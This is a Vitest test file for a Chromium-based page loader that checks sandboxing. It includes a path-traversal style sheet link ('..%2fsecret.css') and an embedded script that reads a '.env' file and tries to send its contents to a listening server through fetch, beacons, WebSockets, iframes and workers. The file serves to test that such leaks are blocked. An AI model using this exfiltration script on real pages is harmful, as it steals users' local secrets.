import { once } from "node:events";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { defined } from "../../../test/defined.ts";
import { noBrowserReason } from "../../../test/in-browser.ts";
import { elementId } from "../../html/attributes.ts";
import { findBrowser } from "../../render/find-browser.ts";
import { renderSettings } from "../flags/flag-values.ts";
import { openLoader } from "./load-page.ts";
import { openRenderLoader } from "./load-rendered.ts";

const reason = noBrowserReason();
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "pith-render-load-"));
  await mkdir(join(folder, "site", "css"), { recursive: true });
  await writeFile(join(folder, "secret.css"), "p{width:1px}");
  await writeFile(join(folder, "site", "css", "a.css"), "p{width:321px}");
  const page =
    '<link rel=stylesheet href=css/a.css><link rel=stylesheet href="..%2fsecret.css"><p id=p>Text of the page';
  await writeFile(join(folder, "site", "page.html"), page);
  await writeFile(join(folder, "site", "not.html"), "%PDF-1.7 not a page");
});

afterAll(() => rm(folder, { recursive: true, force: true }));

test("flags that need a rendered page imply --render", () => {
  expect(renderSettings({})).toBeUndefined();
  expect(renderSettings({ sandbox: true })).toBeUndefined();
  expect(renderSettings({ render: true })).toEqual({ scripts: false, visual: false });
  expect(renderSettings({ scripts: true })).toMatchObject({ scripts: true });
  expect(renderSettings({ png: "a.png" })).toMatchObject({ visual: true, png: "a.png" });
  expect(renderSettings({ pdoc: 7 })).toMatchObject({ visual: true, pdoc: 7 });
});

test("a missing browser is a usage error", async () => {
  const settings = { ...defined(renderSettings({ render: true })), executablePath: "/nowhere/chrome" };
  await expect(openRenderLoader(openLoader({}), settings)).rejects.toThrow(/no program at \/nowhere\/chrome/);
});

describe.skipIf(reason !== undefined)(`in Chromium${reason ? ` (skipped: ${reason})` : ""}`, () => {
  test("a page from a file loads the style sheet beside it and nothing above its folder, and is drawn", async () => {
    const { executablePath } = await findBrowser({ prefer: "npm" });
    const png = join(folder, "out.png");
    const svg = join(folder, "out.svg");
    const settings = defined(renderSettings({ png, svg }));
    const loader = await openRenderLoader(openLoader({}), { ...settings, executablePath, sandbox: false });
    try {
      const loaded = await loader.load({ kind: "file", name: join(folder, "site", "page.html") });
      const page = defined(loaded.page);
      const nodes = Array.from({ length: page.count }, (_, node) => node);
      const p = defined(nodes.find((node) => page.idAt[node] > 0 && elementId(page, node) === "p"));
      expect(page.layout?.width[p]).toBe(321);
      expect((await readFile(png)).subarray(1, 4).toString()).toBe("PNG");
      expect(await readFile(svg, "utf8")).toContain("data:image/png");
      await expect(loader.load({ kind: "file", name: join(folder, "site", "not.html") })).rejects.toThrow("PDF");
    } finally {
      await loader.close();
    }
  });

  test("scripts of a page from a file read the files beside it, but no dotfile, and reach no server", async () => {
    let connections = 0;
    const server = createServer((socket) => {
      connections++;
      socket.on("error", () => socket.destroy()).end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    }).listen(0, "127.0.0.1");
    await once(server, "listening");
    const { port } = server.address() as { port: number };
    await writeFile(join(folder, "site", ".env"), "KEY=secret");
    await writeFile(join(folder, "site", "note.txt"), "a note");
    const leak = `127.0.0.1:${port}/`;
    const script = `(async () => {
      const read = (path) => fetch(path).then((r) => r.text(), () => "refused");
      const texts = [await read("note.txt"), await read(".env")];
      p.textContent = texts.join(" and ");
      const sent = "http://${leak}?" + encodeURIComponent(texts.join());
      fetch(sent, { mode: "no-cors" }).catch(() => 0); new Image().src = sent; navigator.sendBeacon(sent, "x");
      new WebSocket("ws://${leak}"); window.open(sent); document.body.append(Object.assign(document.createElement("iframe"), { src: sent }));
      new Worker(URL.createObjectURL(new Blob(["fetch('" + sent + "')"])));
      location = sent;
    })()`;
    await writeFile(join(folder, "site", "leak.html"), `<p id=p>Text</p><script>${script}</script>`);
    const { executablePath } = await findBrowser({ prefer: "npm" });
    const settings = { ...defined(renderSettings({ scripts: true })), executablePath, sandbox: false } as const;
    const loader = await openRenderLoader(openLoader({}), { ...settings, allowPrivate: true });
    try {
      const { page, notices } = await loader.load({ kind: "file", name: join(folder, "site", "leak.html") });
      expect(defined(page).source).toContain("a note and refused");
      expect(notices?.map(({ message }) => message).join()).toMatch(/requests to the network blocked.*--url/);
      expect(connections).toBe(0);
    } finally {
      await loader.close();
      server.close();
    }
  });
});
